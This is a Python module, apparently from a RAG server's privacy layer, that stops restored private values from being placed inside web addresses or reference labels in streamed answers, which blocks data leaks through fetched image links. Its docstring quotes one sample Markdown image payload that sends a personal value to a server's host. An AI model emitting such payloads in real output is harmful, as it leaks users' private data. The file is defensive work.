"""Keep restored values out of web addresses, hosts' names and labels of references, in answers.

The server is not trusted. It could answer `![](https://its.own.host/?q=PERSON_[...])`. A client
that shows images fetches this address; with the name restored in it, the server would receive a
value that it cannot decrypt.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Collection

from sage_rag.privacy.tokens import LOOSE, StreamReplacer
from sage_rag.rag_server.edge.hosts import HostTracker
from sage_rag.rag_server.edge.labels import LabelTracker
from sage_rag.rag_server.edge.shown_values import is_short

_ADDRESS = re.compile(
    r"https?\\?:|[/\\]{2}|www\.|url\(|\\0{0,4}[2-7][0-9a-f]|\\u00[2-7]"
    r"|&(?:#|sol|bsol|colon|tab|newline)"
    r"|[^\W_]\.[^\W\d_][\w-]{1,23}\.?(?:[/?#]|:\d)",
    re.IGNORECASE,
)
"""The signs of an address: a scheme, two slashes or backslashes, `www.`, escapes in Markdown, HTML,
CSS or JSON that spell one of them, or the end of a host's name, of which some clients make links
and others a preview."""
_FOUND = "//"
_LONGEST_CUT = 29
"""A spelling that `_ADDRESS` finds has at most this many characters before a cut."""
_IGNORED = re.compile(r"\\(?:\r\n|[\n\r\f])|[\t\n\r]")
"""Browsers delete these characters from an address, and from a string of CSS a line break with a
backslash before it."""
_CSS_ESCAPE = re.compile(r"\\[0-9a-f]{1,6}\Z", re.IGNORECASE)
"""A white space after it is a part of it (CSS Syntax 3, §4.3.7)."""
_SPACES = " \t\n\r\f"
"""These end an address in Markdown (CommonMark 0.31, §6.3), and in HTML without quotes."""
_FIRST_WORD = re.compile(r"[^\W_]+")
_LAST_WORD = re.compile(r"[^\W_]+\Z")
_MARKS = re.compile(rf"[{_SPACES}<>\\\"'=]")

Replace = Callable[[re.Match[str]], str]


class AddressTracker:
    """Track whether the end of a growing text lies inside a web address, in bounded memory.

    It follows three kinds of constructs: a word; a Markdown `<...>`, which an escaped bracket does
    not end; and a quoted attribute, by its quotation marks alone, because parsers disagree about
    where a tag begins and ends. In JSON source a quotation mark ends all of them.
    """

    def __init__(self, *, in_json: bool = False) -> None:
        self._in_json = in_json
        self._open = {"word": ""}
        self._escaped = self._assigned = False

    @property
    def in_address(self) -> bool:
        """Whether text appended here would belong to a web address."""
        return any(text.startswith(_FOUND) for text in self._open.values())

    def read(self, text: str) -> None:
        """Read the next piece; the text may be cut anywhere."""
        begun = dict.fromkeys(self._open, 0)
        escaped, assigned = (0 if flag else -1 for flag in (self._escaped, self._assigned))
        for match in _MARKS.finditer(text):
            mark, at = match.group(), match.start()
            if mark == "=" or (at == assigned and mark in f"{_SPACES}\\"):
                assigned = at + 1
            if mark == "\\":
                escaped = at + 1 if at != escaped else -1
            elif mark in "\r\n\f" and at == escaped:
                escaped = at + 1 if mark == "\r" else -1
            elif mark in _SPACES and self._ends_escape(text, at, begun):
                continue
            elif mark in _SPACES:
                self._begin("word", at + 1, begun)
            elif mark == '"' and self._in_json and at != escaped:
                self._open.clear()
                begun.clear()
                self._begin("word", at + 1, begun)
            elif mark in "\"'":
                self._end(mark, begun)
                if at == assigned:
                    self._begin(mark, at + 1, begun)
            elif mark in "<>" and at != escaped:
                self._end("<", begun)
                if mark == "<":
                    self._begin("<", at + 1, begun)
        self._escaped, self._assigned = escaped == len(text), assigned == len(text)
        self._open = {name: _short(self._open[name] + text[at:]) for name, at in begun.items()}

    def _begin(self, name: str, at: int, begun: dict[str, int]) -> None:
        self._open[name], begun[name] = "", at

    def _end(self, name: str, begun: dict[str, int]) -> None:
        self._open.pop(name, None)
        begun.pop(name, None)

    def _ends_escape(self, text: str, at: int, begun: dict[str, int]) -> bool:
        """Return whether the word before a place in a text ends with an escape of CSS."""
        tail = text[max(begun["word"], at - _LONGEST_CUT) : at]
        if at - begun["word"] < _LONGEST_CUT:
            tail = self._open["word"] + tail
        return "\\" in tail and _CSS_ESCAPE.search(tail) is not None


def _short(text: str) -> str:
    """Return the part of a text to store: its last characters, after a mark for an address."""
    text = _IGNORED.sub("", text)
    return (_FOUND if _ADDRESS.search(text) else "") + text[-_LONGEST_CUT:]


def replace_outside_addresses(
    text: str, replace: Replace, *, in_json: bool = False, displayed: bool = False
) -> str:
    """Replace every token of a text, except tokens in web addresses; see `GuardedStream`."""
    if "_" not in text or not LOOSE.opener.search(text):  # as most texts of an answer
        return text
    stream = GuardedStream(replace, in_json=in_json, displayed=displayed)
    return stream.feed(text) + stream.flush()


class GuardedStream:
    """Replace tokens outside web addresses, and labels, in text that arrives in pieces.

    Addresses are searched in the output, because the value of a token may itself be an address. A
    short value gets a space on the side of a letter or digit: inside a word it would not be found
    when the client sends the text back.
    """

    def __init__(
        self,
        replace: Replace,
        *,
        in_json: bool = False,
        displayed: bool = False,
        preceding: Collection[GuardedStream] = (),
    ) -> None:
        """`in_json`: the text is JSON source, in which a quotation mark ends an address, unless a
        client may also display the source itself. `preceding`: texts that a client may put before
        this one.
        """
        self._replace = replace
        self._preceding = preceding
        self._in_json = in_json
        self._tracker = AddressTracker(in_json=in_json and not displayed)
        self._is_displayed = displayed or not in_json
        self._labels = LabelTracker()
        self._hosts = HostTracker()
        self._replacer = StreamReplacer(LOOSE, self._value, self._between)
        self._last = ""
        """The last character of the output."""
        self._ends_short = False
        """Whether the output ends with a short word of a value."""

    def feed(self, piece: str) -> str:
        """Add the next piece; return the output that is now certain."""
        return self._replacer.feed(piece)

    def flush(self) -> str:
        """Return the text that was held back, at its end or at a pause."""
        return self._replacer.flush()

    @property
    def _is_guarded(self) -> bool:
        """Whether a value here would be in an address or a label, also of a text before."""
        others = (text for text in self._preceding if text is not self)
        return (
            self._tracker.in_address
            or self._labels.in_reference
            or any(text._tracker.in_address or text._labels.is_open for text in others)
        )

    def _between(self, text: str) -> str:
        """Return the text between two tokens."""
        if not text:
            return ""
        self._tracker.read(text)
        shown = self._labels.read(text) if self._is_displayed else text
        if self._is_displayed:
            for stream in dict.fromkeys((self, *self._preceding)):
                shown = stream._hosts.read(shown)
        if text[0] == ":" and any(other._labels.ends_label for other in self._preceding):
            shown = f" {text}"
        return self._shown(shown)

    def _value(self, match: re.Match[str]) -> str:
        if self._is_guarded:
            self._tracker.read(match.group())
            self._labels.skip_token()
            self._hosts.skip_token()
            return self._shown(match.group())
        value = self._replace(match)
        first = _FIRST_WORD.match(value)
        if first and self._last.isalnum() and is_short(first.group()):
            value = f" {value}"
        self._tracker.read(value)
        if self._is_displayed:
            self._labels.add_value(value)
            self._hosts.add_value()
        shown = self._shown(value)
        last = _LAST_WORD.search(value)
        self._ends_short = bool(last and is_short(last.group()))
        return shown

    def _shown(self, text: str) -> str:
        """Return the next output, with a space where it would continue a short word of a value."""
        continues = text[:1].isalnum() or (self._in_json and text[:1] == "\\")
        apart = self._ends_short and continues
        self._ends_short = self._ends_short and not text
        self._last = text[-1:] or self._last
        return f" {text}" if apart else text
